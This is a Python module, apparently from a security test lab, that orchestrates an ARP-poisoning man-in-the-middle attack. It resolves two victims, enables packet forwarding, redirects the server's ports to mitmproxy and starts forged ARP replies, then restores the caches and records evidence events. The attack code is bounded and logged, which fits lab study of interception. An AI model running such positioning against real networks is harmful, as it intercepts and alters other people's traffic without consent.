"""The attacker's side of ARP positioning, as its role runs it for one scenario: find both victims,
forward what they send, hand the server's ports to mitmproxy's transparent listener, poison both
caches; afterwards, stop, tell both the truth again and take the redirects away."""

from __future__ import annotations

import asyncio
import datetime
import time
from collections.abc import Callable, Sequence

from lab import events
from lab.arp.host import add_redirect, forward_packets, redirect_rule, remove_redirect
from lab.arp.poison import ArpPoisoner, PositioningError, resolve


def _wall(monotonic: float | None) -> str | None:
    """A monotonic moment of this process as an ISO 8601 time, as the evidence writes its times."""
    if monotonic is None:
        return None
    ago = time.monotonic() - monotonic
    return (datetime.datetime.now(datetime.UTC) - datetime.timedelta(seconds=ago)).isoformat()


class ArpPositioning:
    def __init__(
        self,
        record: Callable[[events.Event], None],
        interface: str,
        client_ip: str,
        server_ip: str,
        redirects: Sequence[tuple[int, int]],
        *,
        interval: float = 0.5,
        max_seconds: float = 120.0,
    ) -> None:
        """`redirects`: (the server's port, mitmproxy's transparent port) pairs."""
        self.record, self.interface = record, interface
        self.client_ip, self.server_ip = client_ip, server_ip
        self.rules = [redirect_rule(interface, server_ip, port, to) for port, to in redirects]
        self.interval, self.max_seconds = interval, max_seconds
        self._added: list[list[str]] = []
        self._poisoner: ArpPoisoner | None = None

    async def start(self) -> None:
        """On the path once the first forged replies are out; a `PositioningError` says why not (and
        whatever was set up is taken down again)."""
        try:
            client = await asyncio.to_thread(resolve, self.interface, self.client_ip)
            server = await asyncio.to_thread(resolve, self.interface, self.server_ip)
            forward_packets(self.interface)
            for rule in self.rules:
                add_redirect(rule)
                self._added.append(rule)
            max_replies = 2 * (int(self.max_seconds / self.interval) + 1)
            poisoner = ArpPoisoner(
                self.interface,
                client,
                server,
                interval=self.interval,
                max_replies=max_replies,
                max_seconds=self.max_seconds,
            )
        except PositioningError:
            self._unredirect()
            raise
        self._poisoner = poisoner
        poisoner.start()
        self.record(
            events.ArpPoisoning(
                client=client.ip,
                server=server.ip,
                client_mac=client.mac,
                server_mac=server.mac,
                attacker_mac=poisoner.mac,
                interval_ms=self.interval * 1000,
            )
        )

    async def stop(self) -> None:
        poisoner, self._poisoner = self._poisoner, None
        if poisoner is not None:
            sent = await asyncio.to_thread(poisoner.stop)
            restored = await asyncio.to_thread(poisoner.restore)
            poisoner.close()
            self.record(
                events.ArpReplies(
                    count=sent.replies,
                    first=_wall(sent.first),
                    last=_wall(sent.last),
                    ended=sent.ended,
                    restored=restored,
                )
            )
        self._unredirect()

    def _unredirect(self) -> None:
        while self._added:
            remove_redirect(self._added.pop())
